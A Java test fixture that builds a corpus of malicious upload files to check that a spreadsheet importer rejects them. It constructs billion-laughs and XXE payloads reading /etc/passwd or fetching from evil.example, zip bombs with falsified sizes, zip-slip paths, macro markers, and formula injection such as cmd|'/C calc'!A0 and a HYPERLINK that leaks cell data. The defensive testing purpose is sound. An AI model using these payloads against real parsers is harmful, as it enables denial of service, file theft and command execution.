package org.lianglin.foundation.tables.sheets;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.zip.Deflater;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

/** The corpus of files that want to do harm, made here so that no such file lies in the repository. */
final class HostileFiles {
    /** The file is read, and what was hostile in it is only text, or never looked at. */
    static final String NEUTRAL = "neutral";

    private static final String LAUGHS = """
            <!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
            <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
            <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY lol "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>
            """;
    private static final String OUTSIDE = "<!DOCTYPE x [<!ENTITY lol SYSTEM \"file:///etc/passwd\">]>";
    private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final String SPACE = " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
    private static final long GIGABYTE = 1L << 30;

    private final List<Hostile> files = new ArrayList<>();

    /**
     * @param expected code of the refusal, or {@link #NEUTRAL}
     */
    record Hostile(String name, String expected, Supplier<byte[]> content) {
        @Override
        public String toString() {
            return name;
        }
    }

    static List<Hostile> all() {
        var corpus = new HostileFiles();
        corpus.noTables();
        corpus.archives();
        corpus.bombs();
        corpus.entities();
        corpus.shapes();
        corpus.formulas();
        corpus.texts();
        return corpus.files;
    }

    private void add(String name, String expected, Supplier<byte[]> content) {
        files.add(new Hostile(name, expected, content));
    }

    private void noTables() {
        add("nothing at all", "tables.file-empty", () -> new byte[0]);
        add(
                "a picture that is a page",
                "tables.file-type",
                () -> join(bytes(0xff, 0xd8, 0xff, 0xe0), "<html><script>alert(1)</script>"));
        add(
                "a picture of 30,000 by 30,000",
                "tables.file-type",
                () -> join(
                        bytes(0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13),
                        "IHDR",
                        bytes(0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 6, 0, 0, 0)));
        add(
                "a drawing with a script",
                "tables.file-type",
                () -> text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"));
        add(
                "a page that calls itself xls",
                "tables.file-type",
                () -> text("\uFEFF <html><table><tr><td>姓名</td></tr></table></html>"));
        add("a page with entities", "tables.file-type", () -> text(XML + LAUGHS + "<x>&lol;</x>"));
        add("a PDF", "tables.file-type", () -> text("%PDF-1.7\n1 0 obj"));
        add("rich text", "tables.file-type", () -> text("{\\rtf1\\ansi}"));
        add("a program for Windows", "tables.file-type", () -> join("MZ", bytes(0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0)));
        add("a program for Linux", "tables.file-type", () -> join(bytes(0x7f), "ELF", bytes(2, 1, 1, 0, 0, 0)));
        add("a gzip", "tables.file-type", () -> bytes(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3));
        add("text with NUL", "tables.file-type", () -> text("姓名,电话\n张三,\u0000138\n"));
        add("an old workbook", "tables.file-old-format", () -> ole("Workbook"));
        add("an encrypted workbook", "tables.file-encrypted", () -> ole("EncryptedPackage"));
        add(
                "a document",
                "tables.file-type",
                () -> zip(Map.of("[Content_Types].xml", text("<Types/>"), "word/document.xml", text("<x/>"))));
        add(
                "an OpenDocument",
                "tables.file-type",
                () -> zip(Map.of(
                        "mimetype",
                        text("application/vnd.oasis.opendocument.spreadsheet"),
                        "content.xml",
                        text("<x/>"))));
        add(
                "a Java archive",
                "tables.file-type",
                () -> zip(Map.of("META-INF/MANIFEST.MF", text("Manifest-Version: 1.0"))));
        add(
                "an empty archive",
                "tables.file-type",
                () -> bytes('P', 'K', 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0));
    }

    private void archives() {
        add(
                "an archive of archives",
                "tables.file-type",
                () -> zip(Map.of("0.zip", zip(Map.of("1.zip", zip(Map.of("x", new byte[10])))))));
        add("an encrypted part", "tables.file-encrypted", () -> flagged(workbook(Map.of()), 1));
        add(
                "two parts of one name",
                "tables.archive-duplicate",
                () -> zip(List.of(
                        Map.entry("[Content_Types].xml", types("")),
                        Map.entry("xl/workbook.xml", text("<x/>")),
                        Map.entry("xl/workbook.xml", text("<y/>")))));
        add(
                "two parts that differ by case",
                "tables.archive-duplicate",
                () -> workbook(Map.of("XL/WORKBOOK.XML", text("<x/>"))));
        add(
                "a path that climbs out",
                "tables.archive-path",
                () -> workbook(Map.of("xl/../../../etc/passwd", text("x"))));
        add("an absolute path", "tables.archive-path", () -> workbook(Map.of("/etc/passwd", text("x"))));
        add("a path of Windows", "tables.archive-path", () -> workbook(Map.of("C:\\evil.exe", text("x"))));
        add("a hundred thousand parts", "tables.too-many-parts", () -> {
            var parts = new LinkedHashMap<String, byte[]>();
            for (var i = 0; i < 65_000; i++) {
                parts.put("xl/media/" + i, new byte[0]);
            }
            return workbook(parts);
        });
        add(
                "a hundred thousand sheets",
                "tables.too-many-sheets",
                () -> workbook(Map.of(
                        "xl/workbook.xml",
                        text("<workbook" + SPACE + " xmlns:r=\"r\"><sheets>"
                                + "<sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/>".repeat(100_000)
                                + "</sheets></workbook>"))));
        add("macros in disguise", "tables.file-has-macros", () -> workbook(Map.of("xl/vbaProject.bin", new byte[100])));
        add(
                "macros by their type",
                "tables.file-has-macros",
                () -> workbook(Map.of(
                        "[Content_Types].xml",
                        text(new String(types(""), StandardCharsets.UTF_8)
                                .replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")))));
        add(
                "macros of the old kind",
                "tables.file-has-macros",
                () -> workbook(Map.of("xl/macrosheets/sheet1.xml", text("<x/>"))));
        add("an archive that ends early", "tables.file-damaged", () -> Arrays.copyOf(workbook(Map.of()), 600));
        add("a broken list of parts", "tables.file-damaged", () -> {
            var content = workbook(Map.of());
            for (var i = content.length - 200; i < content.length - 60; i++) {
                content[i] = (byte) 0xa5;
            }
            return content;
        });
        add(
                "a sheet that lies outside",
                "tables.file-empty",
                () -> workbook(
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                text(
                                        "<Relationships><Relationship Id=\"rId1\" Target=\"http://evil.example/sheet1.xml\" TargetMode=\"External\"/></Relationships>"))));
        add(
                "a sheet above the root",
                "tables.file-empty",
                () -> workbook(
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                text(
                                        "<Relationships><Relationship Id=\"rId1\" Target=\"../../../../etc/passwd\"/></Relationships>"))));
        add(
                "a link to another workbook",
                NEUTRAL,
                () -> workbook(Map.of("xl/externalLinks/externalLink1.xml", text(OUTSIDE + "<x>&lol;</x>"))));
    }

    private void bombs() {
        add(
                "ten gigabytes of nothing",
                "tables.file-inflates",
                () -> bomb("xl/worksheets/sheet1.xml", 10 * GIGABYTE, 10 * GIGABYTE));
        add(
                "ten gigabytes that call themselves small",
                "tables.file-inflates",
                () -> bomb("xl/worksheets/sheet1.xml", 10 * GIGABYTE, 1000));
        add("a bomb among the texts", "tables.file-inflates", () -> bomb("xl/sharedStrings.xml", GIGABYTE, 1000));
        add("a bomb among the styles", "tables.file-inflates", () -> bomb("xl/styles.xml", GIGABYTE, 1000));
        add("a bomb in the workbook", "tables.file-inflates", () -> bomb("xl/workbook.xml", GIGABYTE, 1000));
        add("a bomb in the types", "tables.file-inflates", () -> bomb("[Content_Types].xml", GIGABYTE, 1000));
        add(
                "a bomb in the relations",
                "tables.file-inflates",
                () -> bomb("xl/_rels/workbook.xml.rels", GIGABYTE, 1000));
        add("a bomb that nobody opens", NEUTRAL, () -> bomb("xl/media/image1.png", GIGABYTE, 1000));
        add("four million empty rows", "tables.too-many-rows", () -> sheet("<row/>".repeat(4_000_000)));
    }

    private void entities() {
        add(
                "a billion laughs in the texts",
                "tables.file-has-entities",
                () -> workbook(Map.of(
                        "xl/sharedStrings.xml", text(XML + LAUGHS + "<sst" + SPACE + "><si><t>&lol;</t></si></sst>"))));
        add(
                "a billion laughs in a sheet",
                "tables.file-has-entities",
                () -> workbook(
                        Map.of(
                                "xl/worksheets/sheet1.xml",
                                text(
                                        XML + LAUGHS + "<worksheet" + SPACE
                                                + "><sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><v>&lol;</v></c></row></sheetData></worksheet>"))));
        add(
                "a billion laughs in the workbook",
                "tables.file-has-entities",
                () -> workbook(Map.of("xl/workbook.xml", text(LAUGHS + "<workbook>&lol;</workbook>"))));
        add(
                "a billion laughs in the types",
                "tables.file-has-entities",
                () -> workbook(Map.of("[Content_Types].xml", text(LAUGHS + "<Types>&lol;</Types>"))));
        add(
                "a billion laughs in sixteen bits",
                "tables.file-has-entities",
                () -> workbook(Map.of(
                        "xl/worksheets/sheet1.xml",
                        ("\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + LAUGHS + "<worksheet>&lol;</worksheet>")
                                .getBytes(StandardCharsets.UTF_16LE))));
        add(
                "a file of the server in a sheet",
                "tables.file-has-entities",
                () -> workbook(
                        Map.of(
                                "xl/worksheets/sheet1.xml",
                                text(
                                        OUTSIDE
                                                + "<worksheet><sheetData><row><c t=\"str\"><v>&lol;</v></c></row></sheetData></worksheet>"))));
        add(
                "a document type from outside",
                "tables.file-has-entities",
                () -> workbook(Map.of(
                        "xl/sharedStrings.xml", text("<!DOCTYPE sst SYSTEM \"http://evil.example/x.dtd\"><sst/>"))));
        add(
                "an entity in the styles",
                "tables.file-has-entities",
                () -> workbook(Map.of(
                        "xl/styles.xml",
                        text("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x\"> %p;]><styleSheet/>"))));
        add(
                "a file of the server in a drawing",
                NEUTRAL,
                () -> workbook(Map.of("xl/drawings/drawing1.xml", text(OUTSIDE + "<x>&lol;</x>"))));
        add(
                "an inclusion",
                NEUTRAL,
                () -> sheet(
                        "<row r=\"1\"><c r=\"A1\" t=\"str\"><v>a</v></c></row>"
                                + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"));
        add(
                "an undeclared entity",
                "tables.file-has-entities",
                () -> sheet("<row><c t=\"str\"><v>&nobody;</v></c></row>"));
    }

    private void shapes() {
        add(
                "a million columns",
                "tables.too-many-columns",
                () -> sheet("<row r=\"1\">" + "<c><v>1</v></c>".repeat(1_000_000) + "</row>"));
        add(
                "a million columns without anything",
                "tables.too-many-columns",
                () -> sheet("<row r=\"1\">" + "<c/>".repeat(1_000_000) + "</row>"));
        add(
                "a column far out",
                "tables.too-many-columns",
                () -> sheet("<row r=\"1\"><c r=\"ZZZZZZZ1\"><v>1</v></c></row>"));
        add(
                "three hundred columns",
                "tables.too-many-columns",
                () -> sheet("<row r=\"1\"><c r=\"KN1\"><v>1</v></c></row>"));
        add("a row far down", "tables.file-damaged", () -> sheet("<row r=\"2000000000\"><c><v>1</v></c></row>"));
        add("rows in a circle", "tables.file-damaged", () -> sheet("<row r=\"5\"/><row r=\"4\"/>"));
        add("a row above the first", "tables.file-damaged", () -> sheet("<row r=\"-1\"/>"));
        add("a row without a number", "tables.file-damaged", () -> sheet("<row r=\"one\"/>"));
        add(
                "a cell without a column",
                "tables.file-damaged",
                () -> sheet("<row r=\"1\"><c r=\"11\"><v>1</v></c></row>"));
        add("six hundred thousand rows", "tables.too-many-rows", () -> sheet(rows(600_000)));
        add("elements without an end", "tables.file-damaged", () -> sheet("<a>".repeat(100_000)));
        add(
                "a text of ten megabytes",
                "tables.cell-too-long",
                () -> sheet("<row><c t=\"str\"><v>" + noise(10 << 20) + "</v></c></row>"));
        add(
                "an attribute of fifty megabytes",
                "tables.cell-too-long",
                () -> sheet("<row spans=\"" + noise(50 << 20) + "\"/>"));
        add(
                "a text in many pieces",
                "tables.cell-too-long",
                () -> sheet("<row><c t=\"inlineStr\"><is>" + ("<r><t>" + noise(3000) + "</t></r>").repeat(100)
                        + "</is></c></row>"));
        add(
                "a text that does not exist",
                "tables.file-damaged",
                () -> sheet("<row><c t=\"s\"><v>99999999</v></c></row>"));
        add("a text below zero", "tables.file-damaged", () -> sheet("<row><c t=\"s\"><v>-1</v></c></row>"));
        add("a text without a number", "tables.file-damaged", () -> sheet("<row><c t=\"s\"><v>x</v></c></row>"));
        add("a style that does not exist", NEUTRAL, () -> sheet("<row><c s=\"99999999\"><v>1</v></c></row>"));
        add(
                "a number without an end",
                NEUTRAL,
                () -> sheet("<row><c><v>1E999999999</v></c><c><v>-1E-999999999</v></c><c><v>" + "9".repeat(30_000)
                        + "</v></c></row>"));
        add(
                "a date at the end of days",
                NEUTRAL,
                () -> sheet("<row><c s=\"1\"><v>1E308</v></c><c s=\"1\"><v>NaN</v></c></row>"));
        add("a NUL in a cell", "tables.file-damaged", () -> sheet("<row><c t=\"str\"><v>&#0;</v></c></row>"));
    }

    private void formulas() {
        add("a hundred thousand array formulas", NEUTRAL, () -> {
            var rows = new StringBuilder();
            for (var i = 1; i <= 20_000; i++) {
                rows.append(
                        "<row r=\"%1$d\"><c r=\"A%1$d\"><f t=\"array\" ref=\"A1:XFD1048576\">SUM(A1:XFD1048576)</f><v>%1$d</v></c></row>"
                                .formatted(i));
            }
            return sheet(rows.toString());
        });
        add(
                "a formula that shares itself",
                NEUTRAL,
                () -> sheet("<row r=\"1\"><c r=\"A1\"><f t=\"shared\" si=\"7\"/><v>1</v></c></row>"));
        add(
                "a command in a formula",
                NEUTRAL,
                () -> sheet("<row r=\"1\"><c r=\"A1\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>calc</v></c></row>"));
        add(
                "a link in a formula",
                NEUTRAL,
                () -> sheet(
                        "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>HYPERLINK(\"http://evil.example/?\"&amp;A2)</f><v>看</v></c></row>"));
        add("a command in a text", NEUTRAL, () -> text("姓名,电话\n=cmd|' /C calc'!A0,+1\n-2+3,@SUM(A1)\n\t=1,1\n"));
    }

    private void texts() {
        add("text with a million columns", "tables.too-many-columns", () -> text("a,".repeat(1_000_000)));
        add(
                "text with a quote without an end",
                "tables.cell-too-long",
                () -> text("姓名,电话\n\"" + "a\n".repeat(10_000_000)));
        add("text with six hundred thousand rows", "tables.too-many-rows", () -> text("a,b\n".repeat(600_000)));
        add("text in no encoding", "tables.file-type", () -> join("姓名,", bytes(0xff, 0xff, 0x80, 0x80), "\n"));
        add("quotes within quotes", NEUTRAL, () -> text("\"a\"\"\"\"b\"x\"c\",\"\"\n".repeat(1000)));
    }

    private static String rows(int count) {
        var rows = new StringBuilder(count * 60);
        for (var i = 1; i <= count; i++) {
            rows.append("<row r=\"")
                    .append(i)
                    .append("\"><c r=\"A")
                    .append(i)
                    .append("\"><v>")
                    .append(i * 7919L % 1_000_003)
                    .append("</v></c></row>");
        }
        return rows.toString();
    }

    /** Letters that do not pack well, so that only their number is wrong. */
    private static String noise(int length) {
        var random = new java.util.Random(length);
        var noise = new StringBuilder(length);
        while (noise.length() < length) {
            noise.append((char) ('a' + random.nextInt(26)));
        }
        return noise.toString();
    }

    static byte[] sheet(String rows) {
        return workbook(Map.of(
                "xl/worksheets/sheet1.xml",
                text(XML + "<worksheet" + SPACE + "><sheetData>" + rows + "</sheetData></worksheet>")));
    }

    /** A workbook that is in order, except for the given parts. */
    static byte[] workbook(Map<String, byte[]> others) {
        return zip(parts(others));
    }

    private static Map<String, byte[]> parts(Map<String, byte[]> others) {
        var parts = new LinkedHashMap<String, byte[]>();
        parts.put("[Content_Types].xml", types(""));
        parts.put(
                "xl/workbook.xml",
                text(
                        XML + "<workbook" + SPACE
                                + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
        parts.put(
                "xl/_rels/workbook.xml.rels",
                text("<Relationships><Relationship Id=\"rId1\" Target=\"worksheets/sheet1.xml\"/></Relationships>"));
        parts.put(
                "xl/styles.xml",
                text("<styleSheet" + SPACE
                        + "><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/></cellXfs></styleSheet>"));
        parts.put("xl/sharedStrings.xml", text("<sst" + SPACE + "><si><t>张三</t></si></sst>"));
        parts.put(
                "xl/worksheets/sheet1.xml",
                text("<worksheet" + SPACE
                        + "><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row></sheetData></worksheet>"));
        parts.putAll(others);
        return parts;
    }

    private static byte[] types(String more) {
        return text(XML + "<Types>"
                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>"
                + "<Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/>"
                + more + "</Types>");
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        return zip(List.copyOf(parts.entrySet()));
    }

    private static byte[] zip(List<Map.Entry<String, byte[]>> parts) {
        return archive(zip -> {
            for (var part : parts) {
                zip.putArchiveEntry(new ZipArchiveEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeArchiveEntry();
            }
        });
    }

    private interface Filling {
        void fill(ZipArchiveOutputStream zip) throws IOException;
    }

    /** Through a file: a channel in memory copies everything for each piece that makes it longer. */
    private static byte[] archive(Filling filling) {
        try {
            var file = Files.createTempFile("hostile", ".zip");
            try {
                try (var zip = new ZipArchiveOutputStream(file)) {
                    zip.setLevel(Deflater.BEST_SPEED);
                    filling.fill(zip);
                    zip.finish();
                }
                return Files.readAllBytes(file);
            } finally {
                Files.delete(file);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A part of so many blanks, packed by repeating one packed piece, under a size of choice. */
    private static byte[] bomb(String part, long blanks, long stated) {
        var piece = packed(16 << 20);
        var content = new ByteArrayOutputStream();
        for (var i = 0L; i < blanks >> 24; i++) {
            content.writeBytes(piece);
        }
        content.writeBytes(bytes(3, 0));
        return archive(zip -> {
            var others = parts(Map.of());
            others.remove(part);
            for (var other : others.entrySet()) {
                zip.putArchiveEntry(new ZipArchiveEntry(other.getKey()));
                zip.write(other.getValue());
                zip.closeArchiveEntry();
            }
            var entry = new ZipArchiveEntry(part);
            entry.setMethod(ZipArchiveEntry.DEFLATED);
            entry.setCompressedSize(content.size());
            entry.setSize(stated);
            entry.setCrc(1);
            zip.addRawArchiveEntry(entry, new ByteArrayInputStream(content.toByteArray()));
        });
    }

    private static byte[] packed(int length) {
        var deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        var blanks = new byte[length];
        Arrays.fill(blanks, (byte) ' ');
        deflater.setInput(blanks);
        var buffer = new byte[1 << 20];
        var packed = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH);
        deflater.end();
        return Arrays.copyOf(buffer, packed);
    }

    /** Sets the flag in every central entry, as an encrypting program would. */
    private static byte[] flagged(byte[] zip, int flag) {
        for (var i = 0; i + 10 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
                zip[i + 8] |= (byte) flag;
            }
        }
        return zip;
    }

    private static byte[] ole(String stream) {
        var content = ByteBuffer.allocate(4096).order(ByteOrder.LITTLE_ENDIAN);
        content.put(bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1));
        content.position(2048).put(stream.getBytes(StandardCharsets.UTF_16LE));
        return content.array();
    }

    private static byte[] bytes(int... values) {
        var bytes = new byte[values.length];
        for (var i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] join(Object... pieces) {
        var joined = new ByteArrayOutputStream();
        for (var piece : pieces) {
            joined.writeBytes(piece instanceof byte[] b ? b : text((String) piece));
        }
        return joined.toByteArray();
    }
}
